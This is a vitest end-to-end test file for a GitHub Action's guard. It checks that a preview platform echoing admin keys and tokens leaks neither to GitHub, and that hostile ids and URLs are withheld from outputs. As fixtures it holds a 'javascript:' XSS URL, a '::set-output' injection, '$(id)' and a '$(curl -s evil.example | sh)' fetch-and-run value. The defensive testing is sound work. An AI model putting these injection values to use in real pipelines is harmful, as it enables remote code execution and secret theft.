/**
 * The guard end to end (src/guard.ts): the built action against both emulators, with a platform
 * that echoes the admin key and the workflow's GitHub token back in a failed preview's summary
 * and build log, a `javascript:` preview URL, and ids holding a line break or `$(…)`. Nothing
 * secret reaches the PR comment, the Deployment, the job summary or the outputs; a value that does
 * not fit its output's shape is withheld with one warning that names the output, not the value.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startGitHubEmulator, type GitHubEmulator } from '../emulator/github/server.js';
import { startPlatformEmulator, type PlatformEmulator } from '../emulator/platform/server.js';
import { runAction, type ActionRun } from './helpers/run-action.js';

let platform: PlatformEmulator;
let github: GitHubEmulator;
let nextPr = 1900;

beforeAll(async () => {
  [platform, github] = await Promise.all([
    startPlatformEmulator({
      seed: 19,
      previewLimit: { count: 1_000, windowMs: 60_000 },
      triggerLimit: { count: 1_000, windowMs: 1_000 },
      update: { queuedMs: 0, runningMs: 150 },
      exportJob: { queuedMs: 0, runningMs: 100 },
    }),
    startGitHubEmulator(),
  ]);
});
afterEach(() => {
  platform.setHostile(undefined);
  platform.setPreviewBehaviour({});
});
afterAll(async () => {
  await Promise.all([platform.close(), github.close()]);
});

function common(extra: Record<string, string>): Record<string, string> {
  return {
    'admin-key': platform.adminKey,
    'api-url': platform.url,
    'project-id': platform.projectId,
    'github-token': github.token,
    timeout: '30s',
    ...extra,
  };
}

function preview(pr: number): Promise<ActionRun> {
  return runAction({
    inputs: common({ mode: 'preview' }),
    env: github.env(),
    event: {
      name: 'pull_request',
      payload: {
        pull_request: {
          number: pr,
          head: { ref: 'feature/echo', sha: 'b'.repeat(40), repo: { full_name: 'acme/docs' } },
          base: { repo: { full_name: 'acme/docs' } },
        },
      },
    },
  });
}

const warnings = (run: ActionRun): string[] =>
  run.annotations.filter((a) => a.command === 'warning').map((a) => a.message);

/** Warnings about output `name` being withheld. */
const withheld = (run: ActionRun, name: string): string[] =>
  warnings(run).filter((w) => w.includes(`\`${name}\` output is left unset`));

describe('the guard, through the built action', () => {
  it('a failed preview echoing the admin key and the GitHub token leaks neither to GitHub', async () => {
    platform.setPreviewBehaviour({
      queuedMs: 0,
      runningMs: 150,
      outcome: 'failure',
      echoAuthorization: true,
      summary: `Build failed: git clone with ${github.token} refused`,
      logs: [`[error] token=${github.token} key=${platform.adminKey}`, '[error] Build failed'],
    });
    const pr = nextPr++;
    const deploymentsBefore = github.state.repoDeployments.length;
    const run = await preview(pr);

    expect(run.outputs.outcome, run.stdout.slice(-2000)).toBe('failure');
    // The platform did echo both: the comment carries the failure text, scrubbed.
    const comments = (github.state.comments.get(pr) ?? []).map((c) => c.body);
    expect(comments).toHaveLength(1);
    const comment = comments[0] ?? '';
    expect(comment).toContain('Docs preview failed');
    expect(comment).toContain('git clone with *** refused');
    expect(comment).toContain('Bearer ***');
    // Every write toward GitHub: comment bodies as sent (create and update), Deployments and
    // their statuses, the job summary, the outputs.
    const sent = github.requests
      .filter((r) => r.method !== 'GET')
      .map((r) => JSON.stringify(r.body ?? ''));
    const deployments = github.state.repoDeployments.slice(deploymentsBefore);
    expect(deployments).toHaveLength(1);
    expect(deployments[0]?.statuses.map((s) => s.state)).toEqual(['in_progress', 'failure']);
    const everything = [
      ...comments,
      ...sent,
      JSON.stringify(deployments),
      run.summary,
      JSON.stringify(run.outputs),
    ];
    expect(run.summary).toContain('***');
    for (const text of everything) {
      expect(text).not.toContain(platform.adminKey);
      expect(text).not.toContain(github.token);
    }
  });

  it('withholds a `javascript:` preview URL from `preview-url`, with one warning', async () => {
    const url = 'javascript:alert(document.domain)//https://acme.preview.mintlify.app';
    platform.setPreviewBehaviour({ queuedMs: 0, runningMs: 150, previewUrl: url });
    const pr = nextPr++;
    const deploymentsBefore = github.state.repoDeployments.length;
    const run = await preview(pr);

    expect(run.outputs.outcome, run.stdout.slice(-2000)).toBe('success');
    expect(run.outputs['preview-url']).toBeUndefined();
    expect(run.outputs['status-id']).toMatch(/^[A-Za-z0-9._:-]+$/);
    const why = withheld(run, 'preview-url');
    expect(why).toHaveLength(1);
    expect(why[0]).toContain('not an http(s) URL');
    expect(why[0]).not.toContain('javascript');
    // Neither the comment nor the Deployment links it.
    const comment = github.state.comments.get(pr)?.[0]?.body ?? '';
    expect(comment).not.toMatch(/\]\(javascript:/i);
    const statuses = github.state.repoDeployments.slice(deploymentsBefore)[0]?.statuses ?? [];
    expect(statuses.map((s) => s.state)).toEqual(['in_progress', 'success']);
    expect(JSON.stringify(statuses)).not.toContain('javascript:');
  });

  it.each([
    ['a line break', '\n::set-output name=outcome::PWN'],
    ['$(…)', '$(curl -s evil.example | sh)'],
  ])('withholds a status id holding %s from `status-id`, with one warning', async (_, hostile) => {
    platform.setHostile(hostile);
    const run = await runAction({
      inputs: common({ mode: 'status', trigger: 'true' }),
      env: github.env(),
    });

    expect(run.outputs.outcome, run.stdout.slice(-2000)).toBe('success');
    expect(run.outputs['status-id']).toBeUndefined();
    // The commit sha came back hostile too: withheld as not a hex digest.
    expect(run.outputs['commit-sha']).toBeUndefined();
    expect(run.outputs.status).toBe('success');
    const why = withheld(run, 'status-id');
    expect(why).toHaveLength(1);
    expect(why[0]).toContain('not an id');
    for (const w of warnings(run)) {
      expect(w).not.toContain('PWN');
      expect(w).not.toContain('$(');
    }
    // `files-changed` is JSON: file names stay data inside its strings, as JSON allows.
    const { 'files-changed': files, ...scalars } = run.outputs;
    expect(JSON.stringify(scalars)).not.toContain(hostile.trim());
    expect(JSON.parse(files ?? '')).toHaveProperty('removed', [hostile]);
  });

  it('withholds an export job id holding `$(…)` from `job-id`', async () => {
    platform.setHostile('$(id)');
    const run = await runAction({
      inputs: common({ mode: 'export', domain: 'docs.example.com', target: 'none' }),
    });

    expect(run.outputs.outcome, run.stdout.slice(-2000)).toBe('success');
    expect(run.outputs['job-id']).toBeUndefined();
    expect(withheld(run, 'job-id')).toHaveLength(1);
    // The link the platform built holds the id too: `bundle-url` and `deployment-values` go.
    expect(withheld(run, 'bundle-url')).toHaveLength(1);
    expect(withheld(run, 'deployment-values')).toHaveLength(1);
    expect(run.outputs['bundle-sha256']).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.stringify(run.outputs)).not.toContain('$(id)');
  });
});
